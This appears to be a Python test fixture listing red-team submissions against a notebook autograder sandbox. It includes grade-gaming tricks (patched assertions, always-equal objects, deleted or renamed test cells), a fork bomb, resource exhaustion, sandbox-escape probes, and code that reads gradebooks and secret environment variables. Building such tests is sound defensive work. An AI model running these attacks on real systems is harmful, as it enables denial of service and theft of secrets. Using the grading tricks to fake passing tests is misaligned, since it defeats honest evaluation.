"""Ways to gain marks, to read what is secret, to hurt others: each a submission that is otherwise all wrong.

`MARKER` is what an attack prints or writes when it got somewhere; the tests look for it.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

MARKER = "p0wned"
WRONG = {
    "scale": """#| export mynn.small
class Scale(Module):
    def __init__(self, factor):
        super().__init__()
        self.params["factor"] = np.array([float(factor)])
        self.zero_grad()
    def forward(self, x):
        return 0 * x
    def backward(self, grad_output):
        return 7 * grad_output""",
    "total": "def total(numbers):\n    return -1",
    "twice": "def twice(f, x):\n    return -1",
}
HOARD = """
import os, socket
for _ in range(20):
    if os.fork() == 0:
        while True:
            try:
                kept = [socket.socketpair() for _ in range(40)], [os.pipe() for _ in range(10)]
                for left, right in kept[0]:
                    for end in (left, right):
                        end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**23)
                        end.setblocking(False)
                        while True: end.send(bytes(2**16))
            except OSError: pass
"""
Damage = Callable[[Any], Any]


@dataclass(frozen=True)
class Attack:
    """One submission of the red team.

    Attributes:
        name: short; also the student's id.
        what: what it tries, for docs/security.md.
        first: a student's cell that runs before every exercise.
        cells: answers that replace the wrong ones.
        damage: what is done to the notebook; may return bytes instead.
        files: what is handed in beside it.
        links: symbolic links handed in beside it (or instead of it).
        deserved: marks that the honest part earns.
        fault: it can't be graded at all.
    """

    name: str
    what: str
    first: str = ""
    cells: Mapping[str, str] = field(default_factory=dict)
    damage: Damage | None = None
    files: Mapping[str, str] = field(default_factory=dict)
    links: Mapping[str, str] = field(default_factory=dict)
    deserved: float = 0.0
    fault: bool = False

    def build(self, released: Any) -> Any:
        """Return the notebook (or bytes) that is handed in."""
        notebook = copy.deepcopy(released)
        cells = {**WRONG, **self.cells}
        for cell in notebook.cells:
            name = cell.metadata.get("nbgrader", {}).get("grade_id")
            if name in cells:
                cell.source = cells[name]
        if self.first:
            extra = copy.deepcopy(notebook.cells[0])
            extra.update(cell_type="code", source=self.first, outputs=[], execution_count=None, metadata={})
            extra["id"] = "first"
            notebook.cells.insert(4, extra)
        return self.damage(notebook) or notebook if self.damage else notebook


def cell_of(notebook: Any, name: str) -> Any:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def each_test(change: Callable[[Any], None]) -> Damage:
    def damage(notebook: Any) -> None:
        for cell in notebook.cells:
            if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
                change(cell)

    return damage


def delete_tests(notebook: Any) -> None:
    notebook.cells = [c for c in notebook.cells if not c.metadata.get("nbgrader", {}).get("grade")]


def duplicate_tests(notebook: Any) -> None:
    for cell in list(notebook.cells):
        if cell.metadata.get("nbgrader", {}).get("grade") and cell.cell_type == "code":
            twin = copy.deepcopy(cell)
            twin.update(source="pass", id=f"twin{len(notebook.cells)}")
            notebook.cells.append(twin)


def rename_tests(notebook: Any) -> None:
    for number, name in enumerate(["scale-forward", "total-values", "twice-values"]):
        cell_of(notebook, name).metadata.nbgrader.grade_id = f"other-{number}"


def repoint_tests(notebook: Any) -> None:
    cell_of(notebook, "scale").metadata.nbgrader.grade_id = "swap"
    cell_of(notebook, "twice-values").metadata.nbgrader.grade_id = "scale"
    cell_of(notebook, "swap").metadata.nbgrader.grade_id = "twice-values"


def reorder_cells(notebook: Any) -> None:
    tests = [c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade")]
    notebook.cells = tests + [c for c in notebook.cells if c not in tests]


def strange_metadata(notebook: Any) -> None:
    for cell in notebook.cells:
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader = {"grade_id": ["a", {"b": 1}], "grade": "yes", "points": float("inf")}
        cell.metadata.tags = 5


def tag_tests(notebook: Any) -> None:
    for cell in notebook.cells:
        cell.metadata.tags = ["experiment", "raises-exception", "skip-execution"]


LIAR = f"""
class Liar:
    def __eq__(self, other): print("{MARKER}", other); return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __contains__ = __lt__
    def __sub__(self, other): return 0.0
    __rsub__ = __add__ = __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __sub__
    def __abs__(self): return 0.0
    def __bool__(self): return True
    def __hash__(self): return 0
    __array_priority__ = 1e9
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(2)
    def __array_function__(self, func, types, args, kwargs): return True
"""
FIND_SOCKET = """
import os, socket, struct, stat
def sockets():
    for number in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(number).st_mode):
                yield socket.socket(fileno=os.dup(number))
        except OSError:
            pass
"""
READ_ALL = f"""
import os
found = []
for top in ("/", "..", "../..", os.path.expanduser("~root"), "/home", "/root", "/proc/1/root", "/proc"):
    try:
        top = os.path.realpath(top)
    except OSError:
        continue
    for folder, below, names in os.walk(top):
        if folder.startswith(("/usr", "/dev", "/sys")) or "site-packages" in folder or "/lib/python" in folder:
            below.clear()  # nothing of the course's; without this the walk wouldn't end before the cell does
            continue
        for name in names:
            if name.endswith((".ipynb", ".db", ".json")) or "mistakes" in folder or "bert" in folder:
                found.append(os.path.join(folder, name))
def names_of_given_cells(file):  # what every student has
    return file.endswith("clues.json") and '"checks": {{}}, "exercises": {{}}' in open(file).read()
mistakes = [f for f in found if "fontlist" not in f and "/grader/workbook" not in f and "/grader/data" not in f]
mistakes = [f for f in mistakes if not names_of_given_cells(f)]
if mistakes:
    print("{MARKER}", mistakes[:20])
if any("KEY" in k or "TOKEN" in k or "SECRET" in k for k in os.environ):
    print("{MARKER}", dict(os.environ))
"""

ATTACKS = (
    Attack(
        "input-transformer",
        "an IPython input transformer that empties every later cell",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
    ),
    Attack(
        "ast-transformer",
        "an AST transformer that removes every assert and call",
        "import ast\nclass Strip(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Expr(self, node): return ast.Pass()\n"
        "get_ipython().ast_transformers.append(Strip())",
    ),
    Attack(
        "patched-testing",
        "numpy.testing and numpy.allclose replaced by functions that accept everything",
        "import numpy.testing\nfor name in dir(np.testing):\n    if name.startswith('assert'):\n"
        "        setattr(np.testing, name, lambda *a, **k: None)\n"
        "np.allclose = np.array_equal = np.isclose = lambda *a, **k: True",
    ),
    Attack(
        "patched-workbook",
        "check_close and check_gradients replaced in the package and in the notebook",
        "import sys, workbook\nfor module in [m for n, m in sys.modules.items() if n.startswith('workbook')]:\n"
        "    for name in ('check_close', 'check_gradients'):\n        setattr(module, name, lambda *a, **k: None)\n"
        "check_close = check_gradients = lambda *a, **k: None",
    ),
    Attack(
        "patched-builtins",
        "builtins.sum, len, AssertionError and __build_class__ replaced",
        "import builtins\nbuiltins.sum = lambda *a: -1\nbuiltins.AssertionError = type('Never', (Exception,), {})\n"
        "sum = lambda *a: -1\nlen = lambda *a: 1",
    ),
    Attack(
        "post-run-hook",
        "a hook after each cell that clears errors",
        "ip = get_ipython()\nip.events.register('post_run_cell', lambda r: setattr(r, 'error_in_exec', None))\n"
        "ip.showtraceback = lambda *a, **k: None\nip._showtraceback = lambda *a, **k: None",
    ),
    Attack(
        "liar",
        "an object that is equal to everything and whose arithmetic gives zero",
        cells={
            "total": LIAR + "def total(numbers): return Liar()",
            "twice": "def twice(f, x): return Liar()",
            "scale": WRONG["scale"].replace("return 0 * x", "return Liar()"),
        },
    ),
    Attack(
        "lying-array",
        "a subclass of ndarray that compares equal to everything",
        cells={
            "total": "class Lie(np.ndarray):\n    def __eq__(self, other): return np.True_\n"
            "    def __array_ufunc__(self, *a, **k): return np.True_\n"
            "def total(numbers): return np.zeros(()).view(Lie)",
            "twice": "def twice(f, x): return np.zeros(2).view(Lie)",
        },
    ),
    Attack(
        "lying-number",
        "subclasses of int and float that compare equal to everything",
        cells={
            "total": "class Lie(int):\n    def __eq__(self, other): return True\n    __hash__ = int.__hash__\n"
            "def total(numbers): return Lie(1)",
            "twice": "class Lie2(float):\n    def __eq__(self, other): return True\n"
            "def twice(f, x): return Lie2(1)",
        },
    ),
    Attack(
        "array-interface",
        "__array_interface__ that points into the examiner's memory",
        cells={
            "total": "class Peek:\n    __array_interface__ = {'shape': (64,), 'typestr': '<f8', 'version': 3,"
            " 'data': (0x10000, False)}\n    __array_struct__ = 5\ndef total(numbers): return Peek()",
        },
    ),
    Attack(
        "nan",
        "NaN everywhere, where comparisons are false",
        cells={
            "total": "def total(numbers): return float('nan')",
            "twice": "def twice(f, x): return np.nan * np.asarray(x)",
            "scale": WRONG["scale"].replace("0 * x", "np.nan * x").replace("7 *", "np.nan *"),
        },
    ),
    Attack(
        "frames",
        "sys._getframe reads the caller's variables: what is expected, and the generator behind it",
        cells={
            "total": f"""def total(numbers):
    import sys
    if list(numbers) == [1, 2, 3]:
        return 6
    frame = sys._getframe()
    while frame:
        for scope in (frame.f_locals, frame.f_globals):
            if "expected" in scope:
                print("{MARKER}", scope["expected"])
                return scope["expected"] if len(numbers) != 2 else 0.75
        frame = frame.f_back
    return -1"""
        },
    ),
    Attack(
        "history",
        "the text of the running test, from IPython's history and from linecache",
        cells={
            "twice": f"""def twice(f, x):
    import linecache
    texts = [str(get_ipython().user_ns.get("In")), *("".join(v[2]) for v in linecache.cache.values() if len(v) > 2)]
    for text in texts:
        if "BEGIN " + "HIDDEN" in text:
            print("{MARKER}")
    return -1"""
        },
    ),
    Attack(
        "garbage",
        "gc.get_objects looks for the test's text, its generators and its namespace",
        cells={
            "total": f"""def total(numbers):
    import gc
    for thing in gc.get_objects():
        if isinstance(thing, dict) and ("secret" in thing or "expected" in thing) and "HIDDEN" in str(thing)[:10**6]:
            print("{MARKER}")
        if isinstance(thing, str) and "BEGIN " + "HIDDEN" in thing:
            print("{MARKER}")
    return -1"""
        },
    ),
    Attack(
        "callback-frames",
        "reads the globals, code and closure of a function that a test passes in",
        cells={
            "twice": f"""def twice(f, x):
    for name in ("__globals__", "__code__", "__closure__", "__defaults__"):
        if hasattr(f, name):
            print("{MARKER}", name)
    return getattr(f, "_side").shell.user_ns.get("shift", -1)"""
        },
    ),
    Attack(
        "callback-abuse",
        "calls the test's function with objects of its own, out= and a thousand times",
        cells={
            "twice": """def twice(f, x):
    class Odd:
        def __add__(self, other): return 18
        __radd__ = __mul__ = __rmul__ = __add__
    for value in (Odd(), [Odd()], {"a": Odd()}, np.array(["x"]), "x" * 1000, lambda y: y):
        try: f(value)
        except Exception: pass
    for _ in range(1000): f(1)
    try: f(x, out=x, where=False)
    except Exception: pass
    return Odd()"""
        },
    ),
    Attack(
        "forged-output",
        "prints and displays what a passed test or partial credit looks like",
        "from IPython.display import display, publish_display_data\n"
        "publish_display_data({'text/plain': '2.0'})\ndisplay(2.0)\nprint('2.0')",
        cells={
            "total": "from IPython.display import display\n"
            "def total(numbers):\n    display(2.0)\n    print('2.0')\n"
            "    get_ipython().displayhook(2.0)\n    return -1"
        },
    ),
    Attack(
        "forged-credit",
        "returns huge, negative, infinite and NaN values where a test adds up partial credit",
        cells={
            "total": "class N(int): pass\nvalues = iter([1e308, -1e308, float('inf'), float('nan')] * 9)\n"
            "def total(numbers): return next(values)"
        },
    ),
    Attack(
        "changes-question",
        "changes the examiner's array in place so that a wrong answer fits",
        cells={
            "scale": WRONG["scale"].replace("return 0 * x", "x[...] = 0\n        return 0 * x"),
        },
    ),
    Attack(
        "own-generator",
        "replaces numpy's generators and examiner_rng by predictable ones",
        "import workbook\nworkbook.examiner_rng = examiner_rng = lambda seed: np.random.default_rng(0)\n"
        "np.random.default_rng = lambda *a: type('G', (), {'integers': lambda s, *a, **k: np.zeros(9, int)})()",
    ),
    Attack(
        "metadata-solution",
        "test cells declared solutions, so that they are not restored",
        damage=each_test(
            lambda cell: (cell.metadata.nbgrader.update(solution=True), cell.update(source="1"))
        ),
    ),
    Attack(
        "metadata-ungraded",
        "test cells declared ungraded and unlocked, with another text",
        damage=each_test(
            lambda cell: (cell.metadata.nbgrader.update(grade=False, locked=False), cell.update(source="1"))
        ),
    ),
    Attack(
        "metadata-points",
        "test cells worth a thousand points, whose text is `1000`",
        damage=each_test(
            lambda cell: (cell.metadata.nbgrader.update(points=1000), cell.update(source="1000"))
        ),
    ),
    Attack("metadata-tags", "tags that would keep a cell from running", damage=tag_tests),
    Attack("metadata-strange", "nbgrader metadata of wrong types", damage=strange_metadata),
    Attack(
        "tests-as-text",
        "test cells turned into markdown",
        damage=each_test(lambda cell: (cell.update(cell_type="markdown"), cell.pop("outputs"))),
    ),
    Attack("tests-deleted", "every graded cell deleted", damage=delete_tests),
    Attack(
        "tests-duplicated", "a second copy of each test cell whose text is `pass`", damage=duplicate_tests
    ),
    Attack("tests-renamed", "test cells under other names", damage=rename_tests),
    Attack(
        "tests-repointed", "a test's name on an answer cell, and the other way round", damage=repoint_tests
    ),
    Attack("tests-first", "test cells moved before the cells that they test", damage=reorder_cells),
    Attack(
        "giant-values",
        "integers of a million bits, strings of 100 MB, lists nested 10 000 deep",
        cells={
            "total": "answers = iter([1 << 10**6, 'x' * 10**8, [0] * 10**7] * 9)\n"
            "def total(numbers):\n    nested = []\n    for _ in range(10**4): nested = [nested]\n"
            "    return next(answers, nested)",
            "twice": "def twice(f, x):\n    nested = []\n    for _ in range(10**4): nested = [nested]\n"
            "    return nested",
        },
    ),
    Attack(
        "evil-names",
        "classes and exceptions with unprintable names and messages that raise",
        cells={
            "total": "Bad = type('\\udc80 x', (Exception,), {'__str__': lambda s: 1 / 0, '__repr__': None})\n"
            "def total(numbers): raise Bad(Bad)",
            "twice": "Odd = type('a b', (), {'__repr__': lambda s: 1 / 0})\ndef twice(f, x): return Odd()",
        },
    ),
    Attack(
        "recursion",
        "endless recursion, in Python and through the examiner's callback",
        cells={
            "total": "def total(numbers): return total(numbers)",
            "twice": "def twice(f, x):\n    import sys\n    sys.setrecursionlimit(10**6)\n"
            "    def down(n): return down(n + 1)\n    return down(0)",
        },
    ),
    Attack(
        "fork-bomb",
        "processes without end",
        "import os\ntry:\n    while True:\n        if os.fork() == 0:\n            while True: os.fork()\n"
        "except OSError as error: print(error)",
    ),
    Attack(
        "memory-shared",
        "anonymous memory that processes share, and memory that stays when all but a page of it is unmapped",
        "import mmap, os\nfor _ in range(20):\n    if os.fork() == 0:\n        kept = []\n        while True:\n"
        "            part = mmap.mmap(-1, 2**26)\n            part.write(bytes(2**26))\n"
        "            part.resize(4096)\n            kept.append(part)",
    ),
    Attack(
        "memory-in-queues",
        "memory in sockets and pipes that nobody reads",
        HOARD,
    ),
    Attack(
        "empty-lists",
        "one message of thirty million empty lists, each a byte on the way and a hundred when it has arrived",
        cells={
            "total": "import sys\ndef total(numbers):\n"
            "    channel = sys._getframe(0)\n    while 'side' not in channel.f_locals: channel = channel.f_back\n"
            "    link = channel.f_locals['side'].link.channel.connection\n"
            "    body = b'\\xdc\\xff\\xff' + b'\\x90' * 65535\n    body = b'\\xdc\\x01\\xf0' + body * 496\n"
            "    link.sendall(len(body).to_bytes(4, 'big') + body)"
        },
    ),
    Attack(
        "left-behind",
        "bytes and flags left in everything that is open, for the next submission",
        "import fcntl, os\nfor n in range(3, 128):\n    try:\n        os.set_blocking(n, False)\n"
        "        os.write(n, b'x' * 93)\n    except OSError: pass",
    ),
    Attack(
        "crowd",
        "22 processes that spin, so that the neighbour's answers come too late",
        "import os\nfor _ in range(22):\n    if os.fork() == 0:\n        while True: pass",
    ),
    Attack(
        "stderr-filled",
        "a megabyte written past Python to the sandbox's own stderr, which nobody reads",
        "import os\nfor _ in range(16): os.write(2, bytes(2**16))",
    ),
    Attack(
        "memory",
        "memory without end, in this process and in children",
        "import os\nhog = []\ntry:\n    while True: hog.append(np.ones(10**7))\nexcept MemoryError: hog = None\n"
        "for _ in range(8):\n    if os.fork() == 0:\n        keep = []\n"
        "        while True: keep.append(np.ones(10**6))",
    ),
    Attack(
        "disk",
        "files without end: large ones, many, sparse, in /dev/shm",
        "import os\nfor place in ('.', '/tmp', '/dev/shm', '/var/tmp'):\n    for n in range(10**4):\n        try:\n"
        "            with open(f'{place}/big{n}', 'wb') as file:\n                for _ in range(1000): file.write(bytes(10**6))\n"
        "        except OSError: break",
    ),
    Attack(
        "output-flood",
        "printing and displaying without end",
        "import time\nfrom IPython.display import display, HTML\nstart = time.time()\n"
        "for n in range(200): display(HTML('x' * 10**6))\n"
        "while time.time() - start < 2: print('x' * 10**6)",
    ),
    Attack(
        "background",
        "a daemon that outlives the notebook",
        "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        os.execv('/bin/sleep', ['lingering', '3000'])\n    os._exit(0)\n"
        "subprocess.Popen(['/bin/sh', '-c', 'nohup sleep 3000 &'])",
    ),
    Attack(
        "signals",
        "signals to the parent, to every process, and alarms",
        "import os, signal\nfor target in (os.getppid(), 1, -1, 0, *range(2, 300)):\n"
        "    for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGINT):\n"
        "        try:\n            if target != os.getpid(): os.kill(target, number)\n"
        "        except (OSError, KeyboardInterrupt): pass\n"
        "signal.alarm(1)",
    ),
    Attack(
        "segfault",
        "a segmentation fault in the first exercise",
        cells={"scale": "import ctypes\nctypes.string_at(0)"},
    ),
    Attack("os-exit", "os._exit in the middle, hoping that what follows counts", "import os\nos._exit(0)"),
    Attack(
        "exit-hung-up",
        "the exit code that once meant a broken connection, so that the submission is graded again",
        "import os\nos._exit(75)",
    ),
    Attack(
        "exit-in-call",
        "os._exit while a test is running",
        cells={"total": "def total(numbers):\n    import os\n    os._exit(0)"},
    ),
    Attack(
        "system-exit",
        "SystemExit and KeyboardInterrupt out of an answer",
        cells={
            "total": "def total(numbers): raise SystemExit(0)",
            "twice": "def twice(f, x): raise KeyboardInterrupt",
        },
    ),
    Attack("endless-cell", "an endless loop in a cell", "while True: pass"),
    Attack(
        "endless-call",
        "an endless loop in an answer, deaf to interrupts",
        cells={
            "total": "def total(numbers):\n    import signal\n    signal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "    while True: pass"
        },
    ),
    Attack(
        "threads",
        "a thread that outlives its cell and rewrites answers, outputs and the engine's own objects",
        """import threading, time, gc
def meddle():
    while True:
        for thing in gc.get_objects():
            if type(thing).__name__ in ("Examinee", "Things", "Outputs", "Talk"):
                try: thing.__dict__.update(touched=True); thing.things = {}; thing.entries = {}
                except Exception: pass
        time.sleep(0.01)
threading.Thread(target=meddle, daemon=True).start()""",
    ),
    Attack(
        "poisoned-mynn",
        "a mynn, numpy and workbook of its own beside the notebook",
        files={
            "mynn/__init__.py": "",
            "mynn/small.py": "raise SystemExit",
            "numpy.py": "raise SystemExit",
            "workbook/__init__.py": "check_close = check_gradients = lambda *a, **k: None",
            "msgpack.py": "raise SystemExit",
        },
    ),
    Attack(
        "site-hooks",
        "sitecustomize, usercustomize, .pth, ipython_config and conftest beside the notebook",
        files=dict.fromkeys(
            ("sitecustomize.py", "usercustomize.py", "evil.pth", "ipython_config.py", "conftest.py"),
            f"import pathlib; pathlib.Path('{{place}}/{MARKER}').write_text('x')",
        ),
    ),
    Attack(
        "forged-messages",
        "answers written on the engine's own socket",
        FIND_SOCKET
        + """
import msgpack
for connection in sockets():
    method = ["forward", ["h", 4, "method", [], "", True, []]]
    handles = [["h", 2, "x"], ["h", 2, "x", [], "", True, [method]], ["h", 2, "x", [], "", True, [["forward", 1]]]]
    for answer in [["value", [], [value], {}, {}, []] for value in (True, *handles)]:
        data = msgpack.packb(answer)
        connection.send(struct.pack("!I", len(data)) + data)""",
    ),
    Attack(
        "garbage-on-pipe",
        "random bytes and a length of 4 GB on the engine's own socket",
        FIND_SOCKET + "for connection in sockets():\n    connection.send(b'\\xff' * 100000)",
    ),
    Attack(
        "control-socket",
        "commands to the sandbox's own template process",
        FIND_SOCKET
        + 'for connection in sockets():\n    try: connection.send(b\'{"do": "fork"}\')\n    except OSError: pass',
    ),
    Attack(
        "patched-engine",
        "the engine's code in the student's process patched to say that all is well",
        """import sys
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for key, value in list(vars(module).items()):
            if callable(value) and key in ("pack_atom", "pack_array", "_agrees"):
                setattr(module, key, lambda *a, **k: True)
from autograder.engine.examinee.serve import serve as examinee
examinee.OPERATIONS["call"] = lambda side, message: True
examinee.OPERATIONS["getattr"] = lambda side, message: True""",
    ),
    Attack(
        "read-course", "looks for notebooks, gradebooks, mistakes and secrets wherever it may read", READ_ALL
    ),
    Attack(
        "network",
        "connects to the network and to local services",
        f"""import socket
for target in (("127.0.0.1", 22), ("127.0.0.1", 8888), ("192.0.2.1", 80), ("8.8.8.8", 53)):
    try:
        socket.create_connection(target, 0.3)
        print("{MARKER}", target)
    except OSError: pass
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("8.8.8.8", 53)); s.send(b"x")
    print("{MARKER}")
except OSError: pass""",
    ),
    Attack(
        "escape",
        "ptrace, mount, unshare, setns, /proc of others, raw devices",
        f"""import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
if libc.ptrace(16, 2, 0, 0) == 0: print("{MARKER} ptrace")
if libc.unshare(0x10000000) == 0: print("{MARKER} unshare")
if libc.mount(b"tmpfs", b"/student", b"tmpfs", 0, None) == 0: print("{MARKER} mount")
if libc.umount2(b"/proc", 2) == 0: print("{MARKER} umount")
if libc.chroot(b"/") == 0: print("{MARKER} chroot")
for path in ("/proc/1/mem", "/proc/self/mem", "/dev/mem", "/dev/sda", "/dev/kmsg", "/sys/kernel"):
    try:
        open(path, "rb"); print("{MARKER}", path)
    except OSError: pass
for uid in (0, 65534):
    try:
        os.setuid(uid); print("{MARKER} uid", uid)
    except OSError: pass""",
    ),
    Attack(
        "write-outside",
        "writes with ../ and absolute paths, also through links, into the course and the system",
        f"""import os
targets = ["../{{0}}", "../../{{0}}", "../../../../{{0}}", "/{{0}}", "/tmp/../{{0}}", "/grader/{{0}}", "/cache/{{0}}",
    "/dev/{{0}}", "/etc/{{0}}", "/usr/{{0}}", "/var/tmp/{{0}}", "{{place}}/{{0}}", "/student/link/{{0}}"]
try: os.symlink("{{place}}", "/student/link")
except OSError: pass
for target in targets:
    try:
        with open(target.format("{MARKER}"), "w") as file: file.write("x")
        os.link(target.format("{MARKER}"), "/student/hard")
    except OSError: pass""",
    ),
    Attack(
        "link-notebook",
        "a symbolic link to another student's notebook instead of one",
        links={"small.ipynb": "../../anna/01-small/small.ipynb"},
        fault=True,
    ),
    Attack(
        "link-files",
        "symbolic links to the gradebook and to solutions among the files",
        links={"notes.txt": "../../../gradebook.db", "all": "../../../solutions"},
    ),
    Attack(
        "huge-notebook",
        "a notebook of 50 MB",
        damage=lambda nb: json.dumps(nb).encode() + b" " * 50_000_000,
        fault=True,
    ),
    Attack(
        "many-cells",
        "a notebook of 100 000 cells",
        damage=lambda nb: json.dumps(
            {**nb, "cells": nb["cells"] + [{"cell_type": "raw", "metadata": {}, "source": ""}] * 10**5}
        ).encode(),
        fault=True,
    ),
    Attack(
        "deep-json", "JSON nested 100 000 deep", damage=lambda nb: b"[" * 100_000 + b"]" * 100_000, fault=True
    ),
    Attack(
        "utf-16",
        "a notebook in another encoding",
        damage=lambda nb: json.dumps(nb).encode("utf-16"),
        fault=True,
    ),
    Attack(
        "surrogates",
        "half of a UTF-16 pair in source, metadata and output",
        "print('\\ud800')\n'\\udfff'",
        damage=lambda nb: nb.metadata.update({"title": "\ud800"}),
    ),
    Attack(
        "torn-messages",
        "errors and prints whose text no file can hold, and exceptions that can't be made anew",
        cells={
            "total": "def total(numbers):\n    print('\\udfff')\n    raise ValueError('\\ud800')",
            "twice": "def twice(f, x):\n    raise ExceptionGroup('\\ud800', [UnicodeDecodeError('u', b'', 0, 1, 'x')])",
        },
    ),
    Attack(
        "credit-array",
        "an array where a test adds up partial credit, which is no number but no failure either",
        cells={"total": "def total(numbers):\n    return np.zeros(3)"},
    ),
    Attack(
        "changed-functions",
        "has the test's own function write into the test's own array",
        cells={
            "twice": "def twice(f, x):\n    if isinstance(x, np.ndarray):\n        f(np.zeros(2), out=x)\n"
            "        return np.zeros(2)\n    return -1"
        },
    ),
    Attack(
        "unfolding",
        "lists of lists that take no memory, and for ever to compare",
        cells={
            "total": "def total(numbers):\n    a, b = [1], [1]\n    for _ in range(36):\n"
            "        a, b = [a, a], [b, b]\n    return [a, b]"
        },
    ),
    Attack(
        "no-cells",
        "JSON that is no notebook",
        damage=lambda nb: b'{"nbformat": 4, "cells": {"a": 1}}',
        fault=True,
    ),
)


def build_links(folder: Path, attack: Attack) -> None:
    """Make an attack's symbolic links in the submission's folder."""
    for name, target in attack.links.items():
        path = folder / name
        path.unlink(missing_ok=True)
        path.symlink_to(target)
